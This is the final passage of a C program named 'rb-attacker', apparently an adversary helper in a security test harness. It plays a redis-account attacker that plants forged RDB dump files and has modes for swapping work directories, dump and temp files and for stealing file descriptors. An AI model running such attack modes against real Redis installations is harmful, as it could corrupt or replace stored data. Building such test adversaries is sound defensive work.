        int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);
        if (fd < 0)
            continue;
        if (write(fd, rdb, n) != (ssize_t)n)
            die("write the forged RDB");
        close(fd);
        say("planted %s", path);
        idle_forever();
    }
    return 0;
}

/* ------------------------------------------------------------------------ */

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (getuid() == 0 || geteuid() == 0) {
        fprintf(stderr, "rb-attacker: refusing to run as root; it plays the redis account\n");
        return 2;
    }
    struct {
        const char *name;
        int args;
        int (*run)(char **);
    } modes[] = {
        {"swap-workdir", 4, swap_workdir},
        {"aof-dir", 4, aof_dir},
        {"plant-rewrite", 2, plant_rewrite},
        {"swap-dump", 2, swap_dump},
        {"aof-build", 4, aof_build},
        {"lease", 1, lease},
        {"replant-dump", 1, replant_dump},
        {"steal-fds", 0, steal_fds},
        {"swap-temp", 1, swap_temp},
        {"forge-refusal", 1, forge_refusal},
    };
    for (size_t i = 0; argc >= 3 && i < sizeof modes / sizeof modes[0]; i++) {
        if (strcmp(argv[1], modes[i].name) != 0)
            continue;
        if (argc != 3 + modes[i].args) {
            fprintf(stderr, "rb-attacker %s: %d arguments after READY expected\n", modes[i].name, modes[i].args);
            return 2;
        }
        /* argv[2] is READY, found as a[-1] by the modes. */
        return modes[i].run(argv + 3);
    }
    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump|aof-build|lease|replant-dump|steal-fds|swap-temp|forge-refusal READY DATA_DIR ARGS...\n");
    return 2;
}
